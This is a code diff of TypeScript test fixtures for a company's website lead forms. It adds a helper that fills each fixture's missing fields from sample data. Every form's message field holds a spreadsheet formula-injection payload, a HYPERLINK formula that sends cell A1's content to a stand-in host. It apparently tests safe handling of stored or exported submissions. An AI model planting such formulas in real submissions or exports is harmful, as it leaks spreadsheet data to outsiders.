@@ -1,3 +1,6 @@
+import type { FieldSource } from '#shared/forms/sources.ts';
+import { readForm, sampleOf } from './sample-of.ts';
+
 /** A lead form as a visitor meets it: where it stands, what is typed, chosen, ticked and attached, by field. */
 export interface LeadForm {
   readonly form: string;
@@ -20,19 +23,37 @@ export interface LeadForm {
 }
 
 const person = { name: 'Asha Rao', email: 'asha.rao@example.com' };
+/** Answers what a form requires and a row does not name as its complete sample does, with the control that the field has. */
+function whole(lead: LeadForm): LeadForm {
+  const { properties } = readForm(lead.form, 'schema.json') as { properties: Record<string, FieldSource> };
+  const ui = readForm(lead.form, 'ui.json') as Readonly<Record<string, { readonly 'ui:widget'?: string } | undefined>>;
+  const named = { ...lead.texts, ...lead.choices, ...lead.files, ...lead.ticked };
+  const missing = Object.entries(sampleOf(lead.form)).filter(([name]) => !(name in named));
+  return missing.reduce<LeadForm>((rest, [name, value]) => {
+    const { title = name } = properties[name] ?? {};
+    const widget = ui[name]?.['ui:widget'];
+    if (typeof value === 'object') return { ...rest, files: { ...rest.files, [name]: `${name}.pdf` } };
+    const text = value as string;
+    if (widget === 'select') return { ...rest, choices: { ...rest.choices, [name]: text } };
+    if (widget !== 'radio' && typeof value !== 'boolean') return { ...rest, texts: { ...rest.texts, [name]: text } };
+    const label = typeof value === 'boolean' ? title : text;
+    return { ...rest, ticks: [...(rest.ticks ?? []), label], ticked: { ...rest.ticked, [name]: value } };
+  }, lead);
+}
+
 /** A message that a spreadsheet would run. */
 export const FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")';
 
-export const contact: LeadForm = {
+export const contact = whole({
   form: 'contact',
   page: '/contact-us',
   call: '/post-contact-us',
   button: 'Send message',
   hasCaptcha: true,
   texts: { ...person, phone: '9876543210', subject: 'A booking app', message: FORMULA },
-};
+});
 
-export const quote: LeadForm = {
+export const quote = whole({
   form: 'quote',
   page: '/get-a-quote',
   call: '/post-quote',
@@ -41,9 +62,9 @@ export const quote: LeadForm = {
   texts: { ...person, phone: '9876543210', message: FORMULA },
   choices: { service: 'QA Services', project_budget: '$10K - $25K' },
   files: { file: 'brief.pdf' },
-};
+});
 
-export const career: LeadForm = {
+export const career = whole({
   form: 'career',
   page: '/career',
   call: '/post-career',
@@ -51,18 +72,18 @@ export const career: LeadForm = {
   hasCaptcha: true,
   texts: { ...person, phone: '9876543210', post: 'Flutter Developer', experience: '3 years', message: FORMULA },
   files: { file: 'cv.pdf' },
-};
+});
 
-export const partner: LeadForm = {
+export const partner = whole({
   form: 'partner',
   page: '/become-a-partner',
   call: '/post-associate-partner',
   button: 'Send application',
   opener: 'Apply Now',
   texts: { ...person, mobile: '919876543210', message: FORMULA },
-};
+});
 
-export const associatePartner: LeadForm = {
+export const associatePartner = whole({
   form: 'associate-partner',
   page: '/become-partner-form',
   call: '/post-associate-partner-application',
@@ -84,15 +105,15 @@ export const associatePartner: LeadForm = {
   ticks: ['Female', 'Part-time', 'Phone', 'I agree that Alobha stores these details and contacts me about the partnership'],
   files: { resume: 'resume.pdf', id_document: 'passport.pdf' },
   ticked: { gender: 'Female', availability: 'Part-time', contact_method: 'Phone', consent: true },
-};
+});
 
-export const newsletter: LeadForm = {
+export const newsletter = whole({
   form: 'newsletter',
   page: '/',
   call: '/post-subscribed-email',
   button: 'Subscribe',
   texts: { email: person.email },
-};
+});
 
 /** The payload that a form stores, files aside. */
 export function payloadOf({ texts, choices, ticked }: LeadForm): Record<string, unknown> {
